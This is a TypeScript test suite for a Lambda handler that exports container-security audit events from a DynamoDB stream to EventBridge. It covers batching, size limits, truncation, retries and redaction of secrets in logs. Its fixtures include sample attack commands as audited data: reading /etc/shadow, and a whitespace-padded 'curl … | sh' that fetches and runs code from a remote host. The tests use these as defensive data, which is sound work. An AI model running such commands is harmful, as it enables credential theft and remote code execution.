import { Logger } from '@aws-lambda-powertools/logger';
import { EventBridgeClient, PutEventsCommand, type PutEventsCommandInput, type PutEventsRequestEntry } from '@aws-sdk/client-eventbridge';
import { marshall } from '@aws-sdk/util-dynamodb';
import type { DynamoDBRecord, DynamoDBStreamEvent } from 'aws-lambda';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { AUDIT_LIMITS, auditEvents, type AuditEvent, type AuditSubject, type Violation } from '../../layers/core/index.js';
import { createAuditExportHandler } from '../../functions/audit-export/app.js';
import { EventBridgePublisher } from '../../functions/shared/events/EventBridgePublisher.js';
import { toItem } from '../../functions/shared/storage/audit-items.js';
import { lambdaContext } from '../support/events.js';
import { readFixture } from '../support/fixtures.js';

// Stream records are built the way DynamoDB builds them: the store's own item for an event, marshalled.
// The fixture batch was captured from DynamoDB Local's stream after writes through DynamoAuditStore and
// DynamoPodDirectory, then given a Lambda event's ARN and region, and the TTL service's user identity.

const STREAM_ARN = 'arn:aws:dynamodb:eu-west-1:111122223333:table/vigil-audit/stream/2026-11-01T09:00:00.000';
const violation: Violation = {
  status: 'Block',
  policy: 'exec-guard',
  policyType: 'container',
  policyVersion: 3,
  control: 'blockContainerExec',
  controlName: 'Block Container Exec',
  enforcementMode: 'enforce',
  action: 'exec',
  message: 'exec of "sh" is not an allowed process',
};
const subject: AuditSubject = {
  workload: { cluster: 'prod-eu', namespace: 'default', pod: 'test-nginx', container: 'nginx', image: 'nginx:latest' },
  user: { name: 'alice@example.com', groups: ['sre'] },
  command: ['sh'],
  enforcer: { group: 'default-ke', type: 'kube_enforcer', id: null },
};

/** Audit events as the webhook makes them, ids `evt-000`, `evt-001`, … */
function events(count: number, overrides: Partial<AuditSubject> = {}): AuditEvent[] {
  return Array.from(
    { length: count },
    (_, i) =>
      auditEvents([violation], { ...subject, ...overrides }, '2026-11-28T12:00:00.000Z', () => `evt-${String(i).padStart(3, '0')}`)[0]!,
  );
}

/** Stream sequence numbers are long decimal strings, increasing within a shard. */
const sequenceNumber = (i: number) => (4421584500000000017450439000n + BigInt(i)).toString();

function record(eventName: 'INSERT' | 'MODIFY' | 'REMOVE', item: Record<string, unknown>, position: number): DynamoDBRecord {
  return {
    eventID: `record-${position}`,
    eventName,
    eventVersion: '1.1',
    eventSource: 'aws:dynamodb',
    awsRegion: 'eu-west-1',
    eventSourceARN: STREAM_ARN,
    dynamodb: {
      ApproximateCreationDateTime: 1795867200,
      Keys: marshall({ pk: item.pk }) as never,
      ...(eventName === 'REMOVE' ? {} : { NewImage: marshall(item, { removeUndefinedValues: true }) as never }),
      SequenceNumber: sequenceNumber(position),
      SizeBytes: 512,
      StreamViewType: 'NEW_IMAGE',
    },
  };
}

/** A batch of INSERT records of `items`, in order. */
function batch(items: ReadonlyArray<Record<string, unknown>>): DynamoDBStreamEvent {
  return { Records: items.map((item, i) => record('INSERT', item, i)) };
}

const stored = (event: AuditEvent) => toItem(event, 90);
const podItem = {
  pk: 'POD#prod-eu#default#web-1',
  pod: { namespace: 'default', name: 'web-1', labels: {}, containers: [] },
  expiresAt: 1798459200,
};

const bus = mockClient(EventBridgeClient);
const publisher = new EventBridgePublisher(
  new EventBridgeClient({ region: 'eu-west-1', credentials: { accessKeyId: 'x', secretAccessKey: 'x' } }),
  'vigil-events',
);
let logger: Logger;

function exporter(maxAttempts = 3) {
  logger = new Logger({ serviceName: 'vigil-test', logLevel: 'SILENT' });
  return createAuditExportHandler({ publisher, logger, retry: { maxAttempts, baseDelayMs: 0 } });
}

/** The bus: takes every entry except those whose event id `refuse` answers with an error code for. */
function busAnswering(refuse: (eventId: string, attempt: number) => string | undefined = () => undefined) {
  const attempts = new Map<string, number>();
  bus.on(PutEventsCommand).callsFake((input: PutEventsCommandInput) => {
    const results = (input.Entries ?? []).map((entry, i) => {
      const id = (JSON.parse(entry.Detail!) as AuditEvent).id;
      const attempt = (attempts.get(id) ?? 0) + 1;
      attempts.set(id, attempt);
      const code = refuse(id, attempt);
      return code ? { ErrorCode: code, ErrorMessage: 'simulated' } : { EventId: `eb-${id}-${i}` };
    });
    return { FailedEntryCount: results.filter((r) => 'ErrorCode' in r).length, Entries: results };
  });
}

const calls = (): PutEventsRequestEntry[][] => bus.commandCalls(PutEventsCommand).map((call) => call.args[0].input.Entries ?? []);
const ids = (entries: readonly PutEventsRequestEntry[]) => entries.map((entry) => (JSON.parse(entry.Detail!) as AuditEvent).id);

beforeEach(() => bus.reset());
afterEach(() => bus.reset());

describe('audit export', () => {
  it('publishes the audit event of an INSERT as the API returns it, and ignores learned pods, MODIFY and TTL REMOVE records', async () => {
    busAnswering();
    const result = await exporter()(readFixture<DynamoDBStreamEvent>('dynamodb-stream', 'audit-table-batch.json'), lambdaContext());

    const expected = {
      id: '7c0a8f4e-5d1b-4b8e-9f3a-2e6d1c9b0a11',
      time: '2026-11-28T12:00:00.000Z',
      status: 'Block',
      policy: 'exec-guard',
      policyType: 'container',
      policyVersion: 3,
      control: 'blockContainerExec',
      controlName: 'Block Container Exec',
      enforcementMode: 'enforce',
      action: 'exec',
      message: 'exec of "sh" is not an allowed process',
      workload: {
        cluster: 'prod-eu',
        namespace: 'default',
        pod: 'test-nginx',
        container: 'nginx',
        image: 'nginx:latest',
        function: null,
        host: null,
      },
      user: { name: 'alice@example.com', groups: ['system:authenticated', 'sre'] },
      command: ['sh', '-c', 'cat /etc/shadow'],
      enforcer: { group: 'default-ke', type: 'kube_enforcer', id: null },
    };
    expect(bus.commandCalls(PutEventsCommand).map((call) => call.args[0].input)).toEqual([
      { Entries: [{ EventBusName: 'vigil-events', Source: 'vigil', DetailType: 'Vigil Audit Event', Detail: JSON.stringify(expected) }] },
    ]);
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('sends at most 10 entries per PutEvents call, each call a run of the stream in order', async () => {
    busAnswering();
    const all = events(25);
    const result = await exporter()(batch(all.map(stored)), lambdaContext());

    const sent = calls()
      .map(ids)
      .sort((a, b) => a[0]!.localeCompare(b[0]!));
    const allIds = all.map((event) => event.id);
    expect(sent).toEqual([allIds.slice(0, 10), allIds.slice(10, 20), allIds.slice(20)]);
    expect(
      calls()
        .flat()
        .map((entry) => JSON.parse(entry.Detail!)),
    ).toEqual(expect.arrayContaining(all));
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('keeps every call under 256 KiB, and exports an event stored too large for one entry cut, never dropping it', async () => {
    busAnswering();
    // 16,000 control characters, each six bytes in JSON: about 96 KB per event, within the audit event's bounds.
    const [big1, big2, big3] = events(3, { command: Array.from({ length: 4 }, () => '\u0001'.repeat(4000)) });
    // As stored before events were cut when made: 280 KB of arguments, within the per-argument bound.
    const [small] = events(1);
    const huge = { ...small!, id: 'evt-huge', command: Array.from({ length: 70 }, () => 'y'.repeat(4000)) };
    const hugeItem = { ...stored(small!), pk: 'EVENT#evt-huge', event: huge };
    const handler = exporter();
    const warnings = vi.spyOn(logger, 'warn');
    const errors = vi.spyOn(logger, 'error');
    const result = await handler(
      batch([big1!, hugeItem, big2!, big3!].map((item, i) => (i === 1 ? item : stored(item as AuditEvent)))),
      lambdaContext(),
    );

    expect(calls().map(ids)).toEqual([['evt-000', 'evt-huge', 'evt-001'], ['evt-002']]);
    for (const call of bus.commandCalls(PutEventsCommand))
      expect(Buffer.byteLength(JSON.stringify(call.args[0].input.Entries), 'utf8')).toBeLessThan(256 * 1024);
    const exported = JSON.parse(calls()[0]![1]!.Detail!) as AuditEvent;
    expect(exported.command!.join('').length).toBeLessThanOrEqual(AUDIT_LIMITS.commandTotal);
    expect(exported.truncated).toContainEqual({ field: 'command[0]', length: 4000 });
    expect(errors).not.toHaveBeenCalled();
    expect(warnings).toHaveBeenCalledWith('exported an audit event cut to the bounds of the schema', {
      sequenceNumber: sequenceNumber(1),
      eventId: 'evt-huge',
      truncated: expect.arrayContaining(['command[0]']),
    });
    expect(JSON.stringify(warnings.mock.calls)).not.toContain('yyyy');
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('exports an event stored with an argument over the schema bound cut to it, with the original length', async () => {
    busAnswering();
    const [small] = events(1);
    const padded = { ...small!, command: ['sh', '-c', `${' '.repeat(5000)}curl http://203.0.113.9/x | sh`] };
    const result = await exporter()(batch([{ ...stored(small!), event: padded }]), lambdaContext());

    const exported = JSON.parse(calls()[0]![0]!.Detail!) as AuditEvent;
    expect(exported.command).toEqual(['sh', '-c', ' [… 5000 blanks …] curl http://203.0.113.9/x | sh']);
    expect(exported.truncated).toEqual([{ field: 'command[2]', length: 5030 }]);
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('retries just the entries the bus failed, and reports nothing once they pass', async () => {
    busAnswering((id, attempt) =>
      attempt === 1 && id === 'evt-003' ? 'ThrottlingException' : attempt === 1 && id === 'evt-007' ? 'InternalFailure' : undefined,
    );
    const all = events(10);
    const result = await exporter()(batch(all.map(stored)), lambdaContext());

    expect(calls()).toHaveLength(2);
    expect(calls()[1]).toEqual([
      { EventBusName: 'vigil-events', Source: 'vigil', DetailType: 'Vigil Audit Event', Detail: JSON.stringify(all[3]) },
      { EventBusName: 'vigil-events', Source: 'vigil', DetailType: 'Vigil Audit Event', Detail: JSON.stringify(all[7]) },
    ]);
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('reports the earliest record that still failed after the retries, so that Lambda retries from there', async () => {
    // A permission error is not the entry's fault: it may pass once the policy is fixed, so it is retried too.
    busAnswering((id) => (id === 'evt-004' ? 'ThrottlingException' : id === 'evt-009' ? 'NotAuthorizedForDetailTypeException' : undefined));
    const all = events(12);
    // A learned pod first: sequence numbers belong to records, not to exported events.
    const result = await exporter(3)(batch([podItem, ...all.map(stored)]), lambdaContext());

    expect(calls().map(ids)).toEqual([
      all.slice(0, 10).map((e) => e.id),
      ['evt-010', 'evt-011'],
      ['evt-004', 'evt-009'],
      ['evt-004', 'evt-009'],
    ]);
    expect(result).toEqual({ batchItemFailures: [{ itemIdentifier: sequenceNumber(5) }] });
  });

  it('reports the first exported record when PutEvents itself keeps failing', async () => {
    bus.on(PutEventsCommand).rejects(Object.assign(new Error('socket hang up'), { name: 'TimeoutError' }));
    const [first, second] = events(2);
    const streamEvent: DynamoDBStreamEvent = {
      Records: [record('REMOVE', stored(first!), 0), record('INSERT', stored(first!), 1), record('INSERT', stored(second!), 2)],
    };
    const handler = exporter(3);
    const warnings = vi.spyOn(logger, 'warn');
    const result = await handler(streamEvent, lambdaContext());

    expect(calls().map(ids)).toEqual([
      ['evt-000', 'evt-001'],
      ['evt-000', 'evt-001'],
      ['evt-000', 'evt-001'],
    ]);
    expect(result).toEqual({ batchItemFailures: [{ itemIdentifier: sequenceNumber(1) }] });
    expect(warnings).toHaveBeenCalledWith('the event bus did not take some audit events; Lambda will retry from the first', {
      sequenceNumber: sequenceNumber(1),
      reasons: ['PutEvents failed (TimeoutError)'],
    });
  });

  it('counts an entry without a result as failed, never as published', async () => {
    let call = 0;
    bus.on(PutEventsCommand).callsFake((input: PutEventsCommandInput) => {
      call++;
      // The first answer is one result short.
      const entries = (input.Entries ?? []).map((_, i) => ({ EventId: `eb-${call}-${i}` }));
      return { FailedEntryCount: 0, Entries: call === 1 ? entries.slice(0, -1) : entries };
    });
    const all = events(3);
    const result = await exporter()(batch(all.map(stored)), lambdaContext());

    expect(calls().map(ids)).toEqual([['evt-000', 'evt-001', 'evt-002'], ['evt-002']]);
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('neither retries nor reports an entry the bus rejects as malformed, and logs it', async () => {
    busAnswering((id) => (id === 'evt-001' ? 'MalformedDetail' : undefined));
    const handler = exporter();
    const errors = vi.spyOn(logger, 'error');
    const result = await handler(batch(events(3).map(stored)), lambdaContext());

    expect(calls().map(ids)).toEqual([['evt-000', 'evt-001', 'evt-002']]);
    expect(errors).toHaveBeenCalledWith('skipped an audit event the event bus does not take', {
      sequenceNumber: sequenceNumber(1),
      eventId: 'evt-001',
      reason: 'MalformedDetail: simulated',
    });
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('skips an item that fails validation, logging where without its values, and exports the rest', async () => {
    busAnswering();
    const [good, bad] = events(2);
    const invalid = { ...stored(bad!), event: { ...bad!, status: 'Maybe', command: ['mysql', '--password=hunter2'], password: 'hunter2' } };
    const handler = exporter();
    const errors = vi.spyOn(logger, 'error');
    const result = await handler(batch([invalid, stored(good!)]), lambdaContext());

    expect(calls().map(ids)).toEqual([['evt-000']]);
    expect(errors).toHaveBeenCalledTimes(1);
    expect(errors).toHaveBeenCalledWith('skipped an audit event that is not valid', {
      sequenceNumber: sequenceNumber(0),
      eventId: 'evt-001',
      issues: [expect.stringMatching(/^status: /), expect.stringMatching(/password/)],
    });
    expect(JSON.stringify(errors.mock.calls)).not.toContain('hunter2');
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('skips records it cannot read: no new image (a KEYS_ONLY stream), an attribute value of no known type', async () => {
    busAnswering();
    const [first, second] = events(2);
    const keysOnly = record('INSERT', stored(first!), 0);
    delete keysOnly.dynamodb!.NewImage;
    const unreadable = record('INSERT', stored(second!), 1);
    unreadable.dynamodb!.NewImage!.expiresAt = { X: '1' } as never;
    const handler = exporter();
    const errors = vi.spyOn(logger, 'error');
    const result = await handler({ Records: [keysOnly, unreadable] }, lambdaContext());

    expect(calls()).toEqual([]);
    expect(errors.mock.calls).toEqual([
      ['skipped a stream record without a new image: the stream view type must be NEW_IMAGE', { sequenceNumber: sequenceNumber(0) }],
      ['skipped a stream record whose image cannot be read', { sequenceNumber: sequenceNumber(1) }],
    ]);
    expect(result).toEqual({ batchItemFailures: [] });
  });

  it('calls nothing and complains of nothing for a batch with nothing to export', async () => {
    busAnswering();
    const [event] = events(1);
    // Events are never updated by the store; a MODIFY (someone's manual fix) is not news either.
    const streamEvent: DynamoDBStreamEvent = {
      Records: [
        record('INSERT', podItem, 0),
        record('MODIFY', podItem, 1),
        record('MODIFY', stored(event!), 2),
        record('REMOVE', stored(event!), 3),
      ],
    };
    const handler = exporter();
    const errors = vi.spyOn(logger, 'error');
    expect(await handler(streamEvent, lambdaContext())).toEqual({ batchItemFailures: [] });
    expect(calls()).toEqual([]);
    expect(errors).not.toHaveBeenCalled();
  });
});
